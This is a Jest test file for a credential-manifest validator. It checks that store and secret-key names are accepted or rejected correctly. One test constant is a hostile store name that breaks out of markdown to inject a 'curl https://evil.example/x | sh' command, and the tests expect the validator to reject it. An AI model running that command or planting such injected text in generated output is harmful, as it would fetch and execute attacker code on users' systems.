import { CredentialReference } from './ManifestOptions';
import { manifestRefusals } from './manifestRefusals';

const EVIL =
  'vault`.\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n<!--';

function refused(credential: object): string[] {
  return manifestRefusals({
    credential: credential as CredentialReference,
  }).map(({ code, field }) => `${code} ${field}`);
}

describe('manifestRefusals', () => {
  it.each([[{ type: 'existing-secret' }], [{ type: 'sealed-secret' }]])(
    'finds nothing wrong with %j',
    credential => {
      expect(refused(credential)).toEqual([]);
    },
  );

  it.each<[string | undefined, string[]]>([
    ['vault', []],
    ['vault.eu-west', []],
    [undefined, ['missing credential.store']],
    ['', ['missing credential.store']],
    ['Vault', ['name-invalid credential.store']],
    ['a b', ['name-invalid credential.store']],
    [EVIL, ['name-invalid credential.store']],
  ])('of the store %j: %j', (store, expected) => {
    expect(refused({ type: 'external-secret', store })).toEqual(expected);
  });

  it.each<[string, string[]]>([
    ['payments/r2', []],
    ['projects/1/secrets/größe', []],
    ['', ['name-invalid credential.remoteKeys.credentials']],
    ['a\nb', ['name-invalid credential.remoteKeys.credentials']],
    ['a\u202eb', ['name-invalid credential.remoteKeys.credentials']],
    ['a'.repeat(1_025), ['name-invalid credential.remoteKeys.credentials']],
  ])('of the key %j: %j', (key, expected) => {
    const remoteKeys = { credentials: key };
    expect(
      refused({ type: 'external-secret', store: 'vault', remoteKeys }),
    ).toEqual(expected);
  });

  it('says what to do', () => {
    const [missing] = manifestRefusals({
      credential: { type: 'external-secret' } as CredentialReference,
    });
    expect(missing.message).toBe('No store of secrets is named');
    expect(missing.remedy).toContain('SecretStore');
  });
});
